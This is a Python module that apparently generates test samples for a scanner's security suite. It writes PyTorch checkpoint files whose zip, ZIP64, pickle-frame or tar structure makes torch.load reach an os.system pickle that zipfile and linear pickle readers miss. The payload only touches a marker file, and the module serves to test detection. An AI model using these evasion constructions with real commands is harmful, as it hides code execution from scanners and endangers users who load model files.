"""Parser-differential samples (issue 21): files whose bytes torch.load reads differently from Python's
zipfile / a linear pickle reader, with a marker payload only torch's reading reaches.

`build(folder, marker_dir)` writes them deterministically and returns {name: path}; each payload runs
`touch <marker_dir>/<name>` when loaded by torch.load(weights_only=False). Used by
tests/security/test_parser_differentials.py and benchmarks/security/differentials.py.
"""

from __future__ import annotations

import pickle
import struct
import zlib
from pathlib import Path

from . import pk

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def evil(command: str) -> bytes:
    return pk.proto(pk.call(pk.glob("os", "system"), pk.text(command)), 2)


def benign(length: int) -> bytes:
    """A harmless pickle (an empty dict in a tuple with a padding string) exactly `length` bytes long."""
    base = pk.proto(pk.tup(pk.dct(), pk.text("")), 2)
    return pk.proto(pk.tup(pk.dct(), pk.text("x" * (length - len(base)))), 2)


# ------------------------------------------------------------------------------------------ zip writing

def _local_and_central(name: str, data: bytes, offset: int) -> tuple[bytes, bytes]:
    raw, crc = name.encode(), zlib.crc32(data)
    common = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(raw), 0)
    local = b"PK\x03\x04" + common + raw + data
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, offset) + raw
    return local, central


def zip_parts(members: list[tuple[str, bytes]], base: int = 0) -> tuple[bytes, bytes]:
    """(local headers + data, central directory) of stored members whose offsets count from `base`."""
    locals_, centrals = b"", b""
    for name, data in members:
        local, central = _local_and_central(name, data, base + len(locals_))
        locals_, centrals = locals_ + local, centrals + central
    return locals_, centrals


def eocd(entries: int, cd_size: int, cd_offset: int) -> bytes:
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, entries, entries, cd_size, cd_offset, 0)


def zip64_record(entries: int, cd_size: int, cd_offset: int) -> bytes:
    return b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, entries, entries, cd_size, cd_offset)


def zip64_locator(record_offset: int) -> bytes:
    return b"PK\x06\x07" + struct.pack("<IQI", 0, record_offset, 1)


def torch_members(data_pkl: bytes) -> list[tuple[str, bytes]]:
    return [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]


def plain_zip(members: list[tuple[str, bytes]]) -> bytes:
    locals_, central = zip_parts(members)
    return locals_ + central + eocd(len(members), len(central), len(locals_))


# ------------------------------------------------------------------------------------------ samples

def case_duplicate(cmd: str) -> bytes:
    """`archive/DATA.PKL` beside `archive/data.pkl`: miniz looks names up ignoring case."""
    return plain_zip([("archive/byteorder", b"little"), ("archive/data.pkl", benign(40)),
                      ("archive/DATA.PKL", evil(cmd)), ("archive/version", b"3\n")])


def eocd_offset(cmd: str) -> bytes:
    """Two directories of equal size: the EOCD offset names the first (torch takes it literally); zipfile's
    "prepended data" correction finds the second, right before the EOCD."""
    bad = evil(cmd)
    evil_locals, evil_cd = zip_parts(torch_members(bad))
    good_locals, good_cd = zip_parts(torch_members(benign(len(bad))))  # offsets as zipfile will shift them
    assert len(good_cd) == len(evil_cd) and len(good_locals) == len(evil_locals)
    return evil_locals + evil_cd + good_locals + good_cd + eocd(3, len(good_cd), len(evil_locals))


def zip64_locator_differential(cmd: str) -> bytes:
    """The ZIP64 locator points at a record naming the evil directory (miniz follows it); zipfile reads the
    record right before the locator, which names the benign one."""
    bad = evil(cmd)
    evil_locals, evil_cd = zip_parts(torch_members(bad))
    evil_record_at = len(evil_locals) + len(evil_cd)
    evil_record = zip64_record(3, len(evil_cd), len(evil_locals))
    good_base = evil_record_at + len(evil_record)
    good_locals, good_cd = zip_parts(torch_members(benign(len(bad))), base=good_base)
    good_record = zip64_record(3, len(good_cd), good_base + len(good_locals))
    body = evil_locals + evil_cd + evil_record + good_locals + good_cd + good_record
    return body + zip64_locator(evil_record_at) + eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def frame_differential(cmd: str) -> bytes:
    """Legacy format. The system-info pickle sits in a 9 KiB FRAME that goes on after its STOP: the C
    unpickler reads the frame in one go, so torch's next pickle.load (the object) starts after the frame,
    where the payload is; a linear reader finds the benign object inside the frame."""
    def p(value: object) -> bytes:
        return pickle.dumps(value, protocol=2)

    inside = p({"protocol_version": 1001, "little_endian": True, "type_sizes": {}})[2:]  # PROTO dropped
    hidden = p({}) + p([])  # what a linear reader takes for the object and the storage keys
    filler = b"N0" * ((9000 - len(inside) - len(hidden)) // 2)  # NONE POP...: 9 KiB > BufferedReader's 8 KiB
    frame_body = inside + hidden + filler
    sys_info = b"\x80\x04\x95" + struct.pack("<Q", len(frame_body)) + frame_body
    return p(LEGACY_MAGIC) + p(1001) + sys_info + evil(cmd) + p([])


def _tar_header(name: bytes, size: int) -> bytes:
    """A V7 tar header (no `ustar` magic): tarfile accepts it on its checksum alone."""
    header = bytearray(512)
    header[:len(name)] = name
    header[100:108] = b"0000644\x00"
    header[108:116] = header[116:124] = b"0000000\x00"
    header[124:136] = f"{size:011o}\x00".encode()
    header[136:148] = b"00000000000\x00"
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[148:156] = f"{sum(header):06o}\x00 ".encode()
    return bytes(header)


def v7_tar(cmd: str) -> bytes:
    """torch.load tries tarfile first: a V7 tar whose first member's name ("N.") is also a complete pickle;
    its `storages` member is what torch's legacy tar loader unpickles."""
    payload = evil(cmd)
    padded = payload + b"\x00" * (-len(payload) % 512)
    return _tar_header(b"N.", 0) + _tar_header(b"storages", len(payload)) + padded + b"\x00" * 1024


SAMPLES = {"zip_case_duplicate": case_duplicate, "zip_eocd_offset": eocd_offset,
           "zip64_locator": zip64_locator_differential, "legacy_frame": frame_differential, "v7_tar": v7_tar}


def build(folder: Path, marker_dir: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, make in SAMPLES.items():
        path = folder / f"{name}.pt"
        path.write_bytes(make(f"touch {marker_dir / name}"))
        out[name] = path
    return out
